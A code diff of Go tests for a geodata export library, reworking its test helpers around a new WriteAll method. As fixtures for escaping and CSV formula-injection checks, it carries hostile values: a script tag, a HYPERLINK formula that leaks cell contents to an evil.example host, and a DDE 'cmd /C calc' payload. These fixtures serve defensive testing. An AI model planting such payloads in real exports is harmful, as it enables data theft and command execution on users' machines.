@@ -16,17 +16,16 @@ import (
 
 const hostile = `<script>alert("x")</script> & <b>bold</b>`
 
-func testDoc() format.Doc {
+func testDoc() (format.Doc, []geodata.Feature) {
 	src := []any{map[string]any{"title": "Report", "publisher": "RFE/RL", "url": "https://example.org/a", "date": "2022-05-18"}}
 	return format.Doc{
-		Layer:   geodata.Layer{ID: "t", Title: "Test layer", Description: "A test", Attribution: "casmap"},
-		Version: "abc-7",
-		Page: geodata.Page{Matched: 3, Features: []geodata.Feature{
+			Layer:   geodata.Layer{ID: "t", Title: "Test layer", Description: "A test", Attribution: "casmap"},
+			Version: "abc-7",
+		}, []geodata.Feature{
 			{ID: "p", Geometry: orb.Point{71.55, 37.49}, Properties: map[string]any{"name": hostile, "fatalities": 3.0, "sources": src}},
 			{ID: "l", Geometry: orb.LineString{{67.4, 37.2}, {67.1, 36.7}}, Properties: map[string]any{"name": "Line", "sources": src}},
 			{ID: "m", Geometry: orb.MultiPolygon{{{{70, 37}, {72, 37}, {72, 39}, {70, 37}}}, {{{73, 37}, {74, 37}, {74, 38}, {73, 37}}}}, Properties: map[string]any{"title": "Two parts"}},
-		}},
-	}
+		}
 }
 
 func write(t *testing.T, name string) []byte {
@@ -36,7 +35,8 @@ func write(t *testing.T, name string) []byte {
 		t.Fatalf("no format %q", name)
 	}
 	var buf bytes.Buffer
-	if err := f.Write(&buf, testDoc()); err != nil {
+	doc, features := testDoc()
+	if err := f.WriteAll(&buf, doc, features, format.Trailer{Matched: 3}); err != nil {
 		t.Fatalf("%s: write: %v", name, err)
 	}
 	return buf.Bytes()
@@ -159,16 +159,17 @@ func TestGeoJSONCountsAndVersion(t *testing.T) {
 // numbers casmap writes stay numbers.
 func TestCSVCellsAreNeverFormulas(t *testing.T) {
 	src := []any{map[string]any{"title": "=HYPERLINK(\"https://evil.example/?\"&A1)"}}
-	doc := format.Doc{Layer: geodata.Layer{ID: "t"}, Version: "v-1", Page: geodata.Page{Features: []geodata.Feature{{
+	doc := format.Doc{Layer: geodata.Layer{ID: "t"}, Version: "v-1"}
+	features := []geodata.Feature{{
 		ID: "@SUM(1+1)", Geometry: orb.Point{-71.123456789, 37.5},
 		Properties: map[string]any{
 			"=cmd|' /C calc'!A0": "x", "plus": "+1+1", "minus": "-2+3", "at": "@A1", "tab": "\t=1", "cr": "\r=1",
 			"fatalities": -3.0, "plain": "a = b", "sources": src,
 		},
-	}}}}
+	}}
 	f, _ := format.ByName("csv")
 	var buf bytes.Buffer
-	if err := f.Write(&buf, doc); err != nil {
+	if err := f.WriteAll(&buf, doc, features, format.Trailer{Matched: 1}); err != nil {
 		t.Fatal(err)
 	}
 	rows, err := csv.NewReader(&buf).ReadAll()
@@ -202,14 +203,15 @@ func TestCSVCellsAreNeverFormulas(t *testing.T) {
 // TestCoordinatesHaveBoundedPrecision: CSV and KML write at most seven
 // decimal places, whatever the stored value.
 func TestCoordinatesHaveBoundedPrecision(t *testing.T) {
-	doc := format.Doc{Layer: geodata.Layer{ID: "t"}, Page: geodata.Page{Features: []geodata.Feature{
+	doc := format.Doc{Layer: geodata.Layer{ID: "t"}}
+	features := []geodata.Feature{
 		{ID: "p", Geometry: orb.Point{69.123456789012345, 34.1}, Properties: map[string]any{}},
 		{ID: "l", Geometry: orb.LineString{{69.000000049, 34.99999999999}, {70, 35}}, Properties: map[string]any{}},
-	}}}
+	}
 	for _, name := range []string{"csv", "kml"} {
 		f, _ := format.ByName(name)
 		var buf bytes.Buffer
-		if err := f.Write(&buf, doc); err != nil {
+		if err := f.WriteAll(&buf, doc, features, format.Trailer{Matched: 2}); err != nil {
 			t.Fatal(err)
 		}
 		out := buf.String()
